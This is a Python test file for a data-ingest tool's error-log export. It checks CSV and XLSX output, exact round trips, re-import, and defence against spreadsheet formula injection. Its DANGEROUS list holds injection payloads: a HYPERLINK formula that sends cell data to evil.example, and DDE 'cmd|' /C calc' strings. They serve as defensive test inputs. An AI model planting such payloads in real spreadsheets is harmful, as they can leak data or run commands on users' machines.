"""Error logs: CSV and XLSX contents, formula safety, byte-exact round trips, re-import."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest_gui.core.errorlog import (
    ERRORS_COLUMN,
    ROW_COLUMN,
    is_error_log,
    needs_neutralising,
    neutralise,
    restore_neutralised,
    strip_error_log_columns,
    write_error_log,
)
from ingest_gui.core.loading import LoadedTable
from tests.core.factories import make_table

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\rSUM(A1)",
    "-A1",
    "+A1",
    "@",
    "==",
]
SAFE = [
    "+34 600 000 000",
    "+1 (555) 123-4567",
    "-12,5",
    "-1.234,56",
    "+12",
    "-0.5",
    "-3%",
    "-",
    "+",
    "Ada",
    "ada@example.com",
    "'til dawn",
    "",
    "  padded  ",
    "a=b",
    "#N/A",
]
#: Values that start with apostrophes in the original file, in front of formula-like text.
APOSTROPHED = ["'=A1", "''@x", "'-2+3+cmd|x"]


def test_formula_like_values_are_neutralised_and_numbers_and_phones_are_not():
    for value in DANGEROUS:
        assert needs_neutralising(value), value
        assert neutralise(value) == "'" + value
    for value in SAFE:
        assert not needs_neutralising(value), value
        assert neutralise(value) == value


def test_values_already_starting_with_an_apostrophe_keep_it_after_a_round_trip():
    for value in APOSTROPHED:
        assert neutralise(value) == "'" + value
        assert restore_neutralised(neutralise(value)) == value
    # An apostrophe we did not add is never stripped.
    assert restore_neutralised("'til dawn") == "'til dawn"
    assert restore_neutralised("'+34 600 000 000") == "'+34 600 000 000"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123 ,.()aA|!%"), max_size=10) | st.text())
def test_neutralise_is_undone_exactly_and_leaves_nothing_runnable(value):
    written = neutralise(value)
    assert restore_neutralised(written) == value
    if written.startswith(("=", "+", "-", "@", "\t", "\r")):
        # Only numbers and phones go out unprefixed: no letters, so no function or command.
        assert written == value
        assert not any(c.isalpha() and c not in "eE" for c in value) or value in ("+", "-")


def sample_table() -> LoadedTable:
    values = [*DANGEROUS, *SAFE, *APOSTROPHED, "línea 1\nlínea 2", "emoji 😀", 'say "hi", ok']
    count = len(values)
    return make_table({
        "Customer ID": [f"C{i:03d}" for i in range(count)],
        "=Header": values,
        "Phone": ["+34 600 000 00" + str(i % 10) for i in range(count)],
    }, header_row=2)


def messages_for(table: LoadedTable) -> dict[int, list[str]]:
    rows = table.row_numbers.tolist()
    return {row: [f"Row problem {row}", "-bad value", "=second"] for row in reversed(rows)}


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        text = handle.read()
    assert text.startswith("\ufeff"), "the BOM makes Excel read the file as UTF-8"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_error_log_holds_every_column_the_row_and_the_messages(tmp_path):
    table = sample_table()
    path = tmp_path / "errors.csv"
    written = write_error_log(path, table, messages_for(table))
    lines = read_csv(path)

    assert written == len(table)
    assert lines[0] == ["Customer ID", "'=Header", "Phone", ROW_COLUMN, ERRORS_COLUMN]
    body = lines[1:]
    assert [line[3] for line in body] == [str(row) for row in table.row_numbers.tolist()]
    assert body[0][4] == "Row problem 3 | -bad value | =second"
    # The file holds the neutralised text; restoring gives back every original byte.
    column = table.frame["=Header"].tolist()
    for line, original in zip(body, column, strict=True):
        assert line[1] == neutralise(original)
        assert restore_neutralised(line[1]) == original
    assert [line[0] for line in body] == table.frame["Customer ID"].tolist()
    assert [line[2] for line in body] == table.frame["Phone"].tolist()
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")


def test_xlsx_error_log_stores_every_value_as_unchanged_text(tmp_path):
    table = sample_table()
    path = tmp_path / "errors.xlsx"
    assert write_error_log(path, table, messages_for(table)) == len(table)

    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == ["Customer ID", "=Header", "Phone", ROW_COLUMN,
                                                 ERRORS_COLUMN]
    assert all(cell.data_type == "s" for cell in rows[0])
    assert rows[0][0].font.b
    originals = table.frame["=Header"].tolist()
    for row, original, number in zip(rows[1:], originals, table.row_numbers.tolist(),
                                     strict=True):
        cell = row[1]
        if original == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s", original
        # XML turns a lone CR into LF; every other character comes back as written.
        assert cell.value == original.replace("\r", "\n"), original
        assert row[3].value == number
        assert row[4].value == f"Row problem {number} | -bad value | =second"
        assert row[4].data_type == "s"


def test_only_rows_with_messages_are_written_in_row_order(tmp_path):
    table = make_table({"Name": ["a", "b", "c", "d"], "Email": ["1", "2", "3", "4"]})
    path = tmp_path / "errors.csv"
    count = write_error_log(path, table, {5: ["last"], 3: ["second", "again"]})
    assert count == 2
    assert read_csv(path) == [
        ["Name", "Email", "Row", "Errors"],
        ["b", "2", "3", "second | again"],
        ["d", "4", "5", "last"],
    ]


def test_rows_with_nothing_to_fix_come_after_the_rows_to_fix(tmp_path):
    table = make_table({"Name": ["a", "b", "c", "d", "e"]})
    path = tmp_path / "errors.csv"
    count = write_error_log(path, table, {6: ["bad"], 4: ["rejected"]},
                            nothing_to_fix={3: ["sent once"], 5: ["sent once too"]})
    assert count == 4
    assert read_csv(path)[1:] == [
        ["c", "4", "rejected"], ["e", "6", "bad"],                    # to fix, in row order
        ["b", "3", "sent once"], ["d", "5", "sent once too"],         # then nothing to fix
    ]


def test_a_message_for_a_row_the_table_lacks_is_still_written(tmp_path):
    table = make_table({"Name": ["a"]})
    path = tmp_path / "errors.csv"
    assert write_error_log(path, table, {2: ["bad"], 40: ["the service refused it"]}) == 2
    assert read_csv(path)[1:] == [["a", "2", "bad"], ["", "40", "the service refused it"]]


def test_rows_are_found_when_row_numbers_are_not_in_order(tmp_path):
    table = make_table({"Name": ["x", "y", "z"]})
    table.row_numbers = np.array([9, 4, 6], dtype=np.int64)
    path = tmp_path / "errors.csv"
    write_error_log(path, table, {9: ["nine"], 4: ["four"]})
    assert read_csv(path)[1:] == [["y", "4", "four"], ["x", "9", "nine"]]


def test_unknown_extensions_and_overlong_xlsx_cells_are_refused_clearly(tmp_path):
    table = make_table({"Notes": ["x" * 40_000]})
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        write_error_log(tmp_path / "errors.txt", table, {2: ["bad"]})
    with pytest.raises(ValueError, match=r"Row 2, column “Notes”.*CSV"):
        write_error_log(tmp_path / "errors.xlsx", table, {2: ["bad"]})
    assert not (tmp_path / "errors.xlsx").exists()
    # CSV has no such limit: the whole cell is kept.
    write_error_log(tmp_path / "errors.csv", table, {2: ["bad"]})
    assert read_csv(tmp_path / "errors.csv")[1][0] == "x" * 40_000


def test_is_error_log_recognises_our_trailing_columns():
    assert is_error_log(["Email", "Row", "Errors"])
    assert is_error_log(["Row", "Errors"])
    assert not is_error_log(["Email", "Errors", "Row"])
    assert not is_error_log(["Row"])
    assert not is_error_log(["Email", "Phone"])


def table_from_csv(path: Path) -> LoadedTable:
    """What the loader hands over for our CSV: the header row and text cells."""
    header, *body = read_csv(path)
    return make_table({name: [line[i] for line in body] for i, name in enumerate(header)},
                      path=path)


def test_a_fixed_csv_error_log_reimports_with_the_original_values(tmp_path):
    table = sample_table()
    path = tmp_path / "errors.csv"
    write_error_log(path, table, messages_for(table))

    reloaded = table_from_csv(path)
    assert is_error_log(reloaded.headers)
    stripped = strip_error_log_columns(reloaded)

    assert stripped.headers == ["Customer ID", "=Header", "Phone"]
    assert list(stripped.original_headers) == ["Customer ID", "=Header", "Phone"]
    for name in stripped.headers:
        assert stripped.frame[name].tolist() == table.frame[name].tolist(), name
    # Messages on re-import name the rows of the error log itself.
    assert stripped.row_numbers.tolist() == list(range(2, len(table) + 2))
    assert any("error log" in note for note in stripped.notes)


def test_a_fixed_xlsx_error_log_reimports_with_the_original_values(tmp_path):
    table = sample_table()
    path = tmp_path / "errors.xlsx"
    write_error_log(path, table, messages_for(table))
    sheet = openpyxl.load_workbook(path).active
    header, *body = [["" if v is None else str(v) for v in row]
                     for row in sheet.iter_rows(values_only=True)]
    reloaded = dataclasses.replace(
        make_table({name: [line[i] for line in body] for i, name in enumerate(header)},
                   path=path),
        format="xlsx",
    )
    stripped = strip_error_log_columns(reloaded)

    assert stripped.headers == ["Customer ID", "=Header", "Phone"]
    expected = [value.replace("\r", "\n") for value in table.frame["=Header"].tolist()]
    # XLSX cells hold the exact text: nothing to restore, an original apostrophe stays.
    assert stripped.frame["=Header"].tolist() == expected


def test_an_ordinary_table_is_not_touched():
    table = make_table({"Row": ["1"], "Email": ["a@x.es"]})
    assert strip_error_log_columns(table) is table


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                                blacklist_characters="\x00"), max_size=12),
                min_size=1, max_size=6))
def test_any_text_survives_a_csv_error_log_round_trip(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("log") / "errors.csv"
    table = make_table({"Value": values})
    write_error_log(path, table, {row: ["bad"] for row in table.row_numbers.tolist()})
    stripped = strip_error_log_columns(table_from_csv(path))
    assert stripped.frame["Value"].tolist() == values


def test_characters_xml_cannot_hold_become_replacement_characters_in_xlsx(tmp_path):
    table = make_table({"Notes": ["bell\x07here", "tab\tand\nnewline"]})
    path = tmp_path / "errors.xlsx"
    write_error_log(path, table, {2: ["bad"], 3: ["bad"]})
    sheet = openpyxl.load_workbook(path).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "bell\ufffdhere", "tab\tand\nnewline"]
